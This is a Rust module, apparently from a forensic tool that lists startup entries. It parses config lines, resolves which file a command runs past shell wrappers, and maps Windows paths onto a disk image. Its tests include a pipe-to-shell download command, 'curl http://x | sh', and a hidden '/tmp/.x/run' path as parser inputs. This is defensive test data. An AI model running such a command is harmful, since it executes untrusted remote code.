//! What many places share: lines that are no remarks, and the file that a command runs.

use tegakari_model::StartEntry;

/// Text in UTF-16 with a mark in front, or in UTF-8.
pub fn decoded(bytes: &[u8]) -> String {
    let units = |from: fn([u8; 2]) -> u16| {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .skip(1)
            .filter_map(|pair| Some(from(*pair.first_chunk()?)))
            .collect();
        String::from_utf16_lossy(&units)
    };
    match bytes {
        [0xff, 0xfe, ..] => units(u16::from_le_bytes),
        [0xfe, 0xff, ..] => units(u16::from_be_bytes),
        _ => String::from_utf8_lossy(bytes).into_owned(),
    }
}

/// Lines that say something, with their numbers from 1.
pub(crate) fn lines(bytes: &[u8]) -> Vec<(usize, String)> {
    let text = String::from_utf8_lossy(bytes);
    (1..)
        .zip(text.lines())
        .map(|(number, line)| (number, line.trim().trim_start_matches('\u{feff}')))
        .filter(|(_, line)| !line.is_empty() && !line.starts_with(['#', ';']))
        .map(|(number, line)| (number, line.to_owned()))
        .collect()
}

/// An entry of a line.
pub(crate) fn entry(kind: &str, file: &str, line: usize, runs: &str) -> StartEntry {
    StartEntry {
        kind: kind.to_owned(),
        stated: format!("{file}:{line}"),
        runs: runs.chars().take(2000).collect(),
        user: None,
        when: None,
        target: target(runs),
        sha256: None,
    }
}

/// An entry of a whole file that is run.
pub(crate) fn whole(kind: &str, file: &str) -> StartEntry {
    StartEntry {
        kind: kind.to_owned(),
        stated: file.to_owned(),
        runs: file.to_owned(),
        user: None,
        when: None,
        target: Some(file.to_owned()),
        sha256: None,
    }
}

/// Programs that only run what is named behind them.
const RUNNERS: [&str; 15] = [
    "sh", "bash", "dash", "zsh", "env", "nohup", "nice", "ionice", "sudo", "python", "python3",
    "perl", "exec", "timeout", "setsid",
];

/// The file that a command runs: its first absolute path, or the next when that is only a shell.
pub(crate) fn target(command: &str) -> Option<String> {
    let words = command
        .split([' ', '\t', '"', '\'', ';', '|', '&', '(', ')', '`', '<', '>'])
        .map(|word| word.trim_start_matches(['-', '@', '+', '!', ':']));
    let mut shell = None;
    for word in words.filter(|word| word.starts_with('/') && word.len() > 1) {
        let name = word.rsplit('/').next().unwrap_or_default();
        if word.starts_with("/dev/") {
            continue;
        }
        if RUNNERS.contains(&name) {
            shell.get_or_insert_with(|| word.to_owned());
            continue;
        }
        return Some(word.to_owned());
    }
    shell
}

/// The path of a program on its disk, below the root of an image: variables that every Windows has are resolved.
pub(crate) fn on_windows(command: &str) -> Option<String> {
    let command = command.trim();
    let path = match command.strip_prefix('"') {
        Some(quoted) => quoted.split('"').next().unwrap_or_default(),
        None => command,
    };
    let lower = path.to_ascii_lowercase();
    let known = [
        ("%systemroot%", "/Windows"),
        ("%windir%", "/Windows"),
        ("\\systemroot", "/Windows"),
        ("%programdata%", "/ProgramData"),
        ("%programfiles%", "/Program Files"),
        ("%programfiles(x86)%", "/Program Files (x86)"),
        ("%public%", "/Users/Public"),
        ("\\??\\c:", ""),
        ("c:", ""),
        ("system32\\", "/Windows/System32/"),
    ];
    let (variable, stands_for) = known.iter().find(|(front, _)| lower.starts_with(front))?;
    let rest = path.get(variable.len()..)?.replace('\\', "/");
    let whole = format!("{stands_for}{rest}");
    // Without quotes the arguments follow behind the ending.
    let lower = whole.to_ascii_lowercase();
    let end = [
        ".exe", ".dll", ".sys", ".bat", ".cmd", ".ps1", ".vbs", ".js",
    ]
    .iter()
    .filter_map(|ending| lower.find(ending).map(|at| at + ending.len()))
    .min();
    whole.get(..end.unwrap_or(whole.len())).map(str::to_owned)
}

/// The user whose home a path lies in.
pub(crate) fn owner(file: &str) -> Option<String> {
    let mut parts = file.trim_start_matches('/').split('/');
    match parts.next()? {
        "root" => Some("root".to_owned()),
        "home" | "Users" => parts.next().map(str::to_owned),
        _ => None,
    }
}

/// The value of `key = value` or `key=value`, whatever the case of the key.
pub(crate) fn value<'l>(line: &'l str, key: &str) -> Option<&'l str> {
    let (name, value) = line.split_once('=')?;
    name.trim().eq_ignore_ascii_case(key).then(|| value.trim())
}

#[cfg(test)]
mod tests {
    use super::{on_windows, owner, target};

    #[test]
    fn the_file_that_is_run_is_found_behind_shells() {
        let check = |command: &str, want: Option<&str>| {
            assert_eq!(target(command).as_deref(), want, "{command}");
        };
        check("/usr/bin/x -a", Some("/usr/bin/x"));
        check("-/bin/sh -c '/tmp/.x/run >/dev/null'", Some("/tmp/.x/run"));
        check("/bin/sh -c 'curl http://x | sh'", Some("/bin/sh"));
        check(
            "run-parts --report /etc/cron.daily",
            Some("/etc/cron.daily"),
        );
        check("x", None);
        assert_eq!(owner("/home/a/.profile").as_deref(), Some("a"));
        assert_eq!(owner("/etc/profile"), None);
    }

    #[test]
    fn programs_are_found_on_their_disk() {
        let check = |command: &str, want: Option<&str>| {
            assert_eq!(on_windows(command).as_deref(), want, "{command}");
        };
        check(
            "\"C:\\Program Files\\a b.exe\" -x",
            Some("/Program Files/a b.exe"),
        );
        check(
            "%windir%\\system32\\svchost.exe -k x",
            Some("/Windows/system32/svchost.exe"),
        );
        check(
            "System32\\drivers\\x.sys",
            Some("/Windows/System32/drivers/x.sys"),
        );
        check("\\??\\C:\\x.sys", Some("/x.sys"));
        check("powershell", None);
    }
}
